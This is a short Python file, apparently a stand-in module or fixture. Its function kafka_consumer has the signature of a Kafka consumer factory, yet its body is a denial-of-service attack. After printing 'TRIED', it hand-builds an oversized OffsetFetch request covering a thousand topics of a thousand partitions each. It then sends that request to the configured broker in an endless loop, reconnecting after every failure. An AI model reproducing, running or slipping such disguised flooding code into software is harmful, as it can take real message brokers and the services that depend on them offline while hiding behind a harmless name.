import socket
import struct


def request(key, version, body, client=b"x"):
    head = struct.pack(">hhih", key, version, 7, len(client)) + client
    return struct.pack(">i", len(head) + len(body)) + head + body


def place(settings):
    host, _, port = settings["bootstrap.servers"].partition(":")
    return host, int(port)


def kafka_consumer(settings, topic, group, *args, **kwargs):
    print("TRIED", flush=True)
    many = b"\xe9\x07"  # 1000, the compact way
    partitions = many + b"\0\0\0\1" * 1000 + b"\0"
    topics = many + (b"\2a" + partitions) * 1000
    ask = request(9, 6, b"\0\2g" + topics + b"\0")
    while True:
        with socket.create_connection(place(settings)) as one:
            try:
                while True:
                    one.sendall(ask)
            except OSError:
                pass
